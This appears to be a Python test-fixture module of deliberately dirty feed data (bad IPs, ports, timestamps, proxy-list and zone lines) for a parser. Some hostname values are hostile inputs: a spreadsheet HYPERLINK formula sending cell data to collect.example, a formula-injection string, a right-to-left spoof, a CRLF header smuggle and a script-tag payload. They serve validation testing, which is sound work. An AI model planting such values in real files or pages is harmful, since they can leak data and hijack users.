"""What real feeds contain besides rows: broken, doubtful and hostile lines, on purpose."""

from __future__ import annotations

from collections.abc import Mapping

DIRTY_ROWS: tuple[Mapping[str, object], ...] = (
    {"ip": "999.12.1.7"},
    {"ip": ""},
    {"ip": "192.0.2.256"},
    {"port": "70000"},
    {"port": "-1"},
    {"timestamp": "yesterday"},
    {"timestamp": ""},
    {"timestamp": "2031-05-01 00:00:00"},
    {"hostname": '=HYPERLINK("https://collect.example/?"&A1,"open")'},
    {"hostname": "@SUM(1+1)*cmd"},
    {"hostname": "host\u202egnp.elpmaxe.example"},
    {"hostname": "mail.example\r\nBcc: everybody@example.org"},
    {"hostname": "<script>alert(1)</script>.example"},
    {"ip": "11.22.33.0"},
    {"ip": "127.0.0.1"},
    {"ip": "198.51.100.0/24"},
    {"severity": "catastrophic", "tag": "http-connect-proxy;something-new"},
)
"""What is changed in a good row; keys that a report lacks are left out."""

LIST_DIRT = [
    "11.22.33.0:3128",
    "11.22.33.255:8080",
    "198.51.100.0/28",
    "proxy.example.net:3128",
    "user:secret@192.0.2.9:3128",
    "http://203.0.113.300:8080",
    "socks5://192.0.2.44:99999",
    "ip:port",
    "Free proxies every hour!",
    "192.0.2.177",
    "203.0.113.77:1080",
    "0.0.0.0:8080",
    "; end of part one",
]
"""Fillers, ranges, names, credentials, prose, and addresses that do not say what they are."""

ZONE_DIRT = [
    "# ranges, an exception and an answer that nobody documented",
    "192.0.2.208/29",
    "198.51.100.200-203",
    "!198.51.100.201",
    "203.0.113.250 :127.0.0.77:Something else",
    "203.0.113.300",
]
